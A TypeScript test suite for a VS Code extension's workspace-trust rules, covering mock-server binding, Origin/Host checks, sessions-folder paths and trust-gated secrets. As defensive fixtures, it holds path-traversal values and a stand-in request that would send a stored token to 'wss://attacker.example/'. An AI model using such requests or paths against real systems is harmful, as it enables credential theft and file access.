import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import {
  RESTRICTED_SETTINGS,
  TrustGatedSecrets,
  UNTRUSTED_SECRET,
  decideBindAddress,
  decideSessionsFolder,
  effectiveSetting,
  isInside,
  isLoopback,
  mocksToAutoStart,
  restrictMockExposure,
  trustPolicy,
} from '../../../src/extension/workflow/trust';
import { resolveVariables } from '../../../src/core/collections/variables';

describe('workflow trust policy', () => {
  it('restricted workspaces read collections but never auto-connect or auto-start', () => {
    assert.deepEqual(trustPolicy(false), { readCollections: true, autoConnect: false, autoStartMocks: false, workspacePortSettings: false, collectionBindAddress: false });
    assert.equal(trustPolicy(true).autoStartMocks, true);
  });

  it('ignores workspace-level values of port settings when untrusted', () => {
    const inspect = { defaultValue: '127.0.0.1', globalValue: undefined, workspaceValue: '0.0.0.0' };
    assert.equal(effectiveSetting(inspect, true, 'x'), '0.0.0.0');
    assert.equal(effectiveSetting(inspect, false, 'x'), '127.0.0.1');
    const d = decideBindAddress(inspect, undefined, false);
    assert.equal(d.host, '127.0.0.1');
    assert.equal(d.code, 'WSWB_UNTRUSTED_BIND_IGNORED');
  });

  it('warns when a mock binds beyond loopback', () => {
    const d = decideBindAddress({ defaultValue: '127.0.0.1', workspaceValue: '0.0.0.0' }, undefined, true);
    assert.equal(d.host, '0.0.0.0');
    assert.equal(d.code, 'WSWB_MOCK_EXPOSED');
    assert.equal(decideBindAddress({ defaultValue: '127.0.0.1' }, undefined, true).warning, undefined);
  });

  it('a collection cannot expose a mock in a restricted workspace', () => {
    assert.equal(decideBindAddress({ defaultValue: '127.0.0.1' }, '0.0.0.0', true).host, '0.0.0.0');
    const d = decideBindAddress({ defaultValue: '127.0.0.1' }, '0.0.0.0', false);
    assert.equal(d.host, '127.0.0.1');
    assert.equal(d.code, 'WSWB_UNTRUSTED_BIND_IGNORED');
    // A user-level (global) choice still applies: the user made it, not the workspace.
    assert.equal(decideBindAddress({ defaultValue: '127.0.0.1', globalValue: '0.0.0.0' }, undefined, false).host, '0.0.0.0');
  });

  it('auto-start list is empty when untrusted', () => {
    assert.deepEqual(mocksToAutoStart({ defaultValue: [], workspaceValue: ['echo'] }, true), ['echo']);
    assert.deepEqual(mocksToAutoStart({ defaultValue: [], workspaceValue: ['echo'], globalValue: ['g'] }, false), []);
  });

  it('knows loopback addresses', () => {
    for (const h of ['127.0.0.1', '127.1.2.3', 'localhost', '::1', '[::1]']) assert.equal(isLoopback(h), true, h);
    for (const h of ['0.0.0.0', '192.168.1.2', '::', 'example.com']) assert.equal(isLoopback(h), false, h);
  });

  it('package.json restricts exactly the settings the code ignores when untrusted', () => {
    const pkg = JSON.parse(readFileSync(path.join(__dirname, '../../../package.json'), 'utf8'));
    const declared: string[] = pkg.capabilities.untrustedWorkspaces.restrictedConfigurations;
    assert.deepEqual([...declared].sort(), RESTRICTED_SETTINGS.map((k) => `websocketWorkbench.${k}`).sort());
    const props = pkg.contributes.configuration.properties ?? Object.assign({}, ...pkg.contributes.configuration.map((c: { properties: object }) => c.properties));
    for (const k of declared) assert.ok(props[k], `${k} is a contributed setting`);
  });

  it('TLS and redirect settings: workspace values count only when trusted', () => {
    assert.equal(effectiveSetting({ defaultValue: true, workspaceValue: false }, false, true), true);
    assert.equal(effectiveSetting({ defaultValue: true, workspaceFolderValue: false }, false, true), true);
    assert.equal(effectiveSetting({ defaultValue: true, workspaceValue: false }, true, true), false);
    assert.equal(effectiveSetting({ defaultValue: false, globalValue: true, workspaceValue: false }, false, false), true, "the user's own value applies");
  });

  it('sessions folder: a restricted workspace cannot point it outside the workspace', () => {
    const root = path.resolve('/work/repo');
    const d = (inspect: object, trusted: boolean) => decideSessionsFolder({ defaultValue: '.websocket/sessions', ...inspect }, root, trusted);
    assert.deepEqual(d({}, false), { folder: path.join(root, '.websocket/sessions'), userChosen: false });
    assert.equal(d({ workspaceValue: 'rec' }, false).folder, path.join(root, 'rec'), 'inside: honoured');
    for (const outside of ['../elsewhere', '/tmp/x', 'a/../../b', path.join(root, '..', 'repo2')]) {
      const r = d({ workspaceValue: outside }, false);
      assert.equal(r.folder, path.join(root, '.websocket/sessions'), outside);
      assert.equal(r.ignored, outside);
      assert.equal(d({ workspaceValue: outside }, true).folder, path.resolve(root, outside), 'trusted: honoured');
    }
    const user = d({ globalValue: '/home/me/sessions', workspaceFolderValue: '/etc' }, false);
    assert.deepEqual(user, { folder: path.resolve('/home/me/sessions'), userChosen: true, ignored: '/etc' });
    assert.equal(isInside(root, root), true);
    assert.equal(isInside(root, path.join(root, 'x/y')), true);
    assert.equal(isInside(root, `${root}-other`), false);
  });

  it('a mock cannot widen its Origin and Host checks in a restricted workspace', () => {
    const def = { name: 'open', host: '0.0.0.0', allowedOrigins: ['*'], checkHost: false, allowedHosts: ['rebind.example'], echo: true };
    const trusted = restrictMockExposure(def, true);
    assert.equal(trusted.definition, def);
    assert.deepEqual(trusted.downgrades, []);
    const r = restrictMockExposure(def, false);
    assert.deepEqual(r.definition, { name: 'open', host: '0.0.0.0', echo: true }, 'host is decideBindAddress\'s business');
    assert.equal(r.downgrades.length, 3);
    assert.match(r.downgrades.join('; '), /allowedOrigins \["\*"\] ignored.*checkHost: false ignored.*allowedHosts/);
    assert.deepEqual(restrictMockExposure({ name: 'safe', allowedOrigins: [] }, false).downgrades, []);
    assert.deepEqual(def.allowedOrigins, ['*'], 'the definition itself is not changed');
  });

  it('stored secrets are refused in a restricted workspace, without reading storage', async () => {
    const reads: string[] = [];
    const store = { get: async (n: string) => (reads.push(n), n === 'tok' ? 's3cret' : undefined) };
    let trusted = false;
    const gate = new TrustGatedSecrets(store, () => trusted);
    const collection = { version: 1 as const, name: 'c', variables: { indirect: 'Bearer {{secret:tok}}' } };
    const request = { name: 'r', url: 'wss://attacker.example/', headers: { Authorization: '{{indirect}}' } };
    const r = await resolveVariables(collection, request, { secrets: gate });
    assert.equal(r.ok, false);
    assert.deepEqual(reads, [], 'nothing read from secret storage');
    assert.deepEqual([...gate.refused], ['tok'], 'found through a variable, too');
    assert.ok(!JSON.stringify(r).includes('s3cret'));
    const refusal = gate.refusal('"r"');
    assert.equal(refusal.code, UNTRUSTED_SECRET);
    assert.match(refusal.message, /\{\{secret:tok\}\}.*Restricted Mode.*Trust this workspace/);
    trusted = true;
    const ok = await resolveVariables(collection, request, { secrets: new TrustGatedSecrets(store, () => trusted) });
    assert.equal(ok.ok, true);
    assert.equal(ok.values.indirect, 'Bearer s3cret');
  });
});
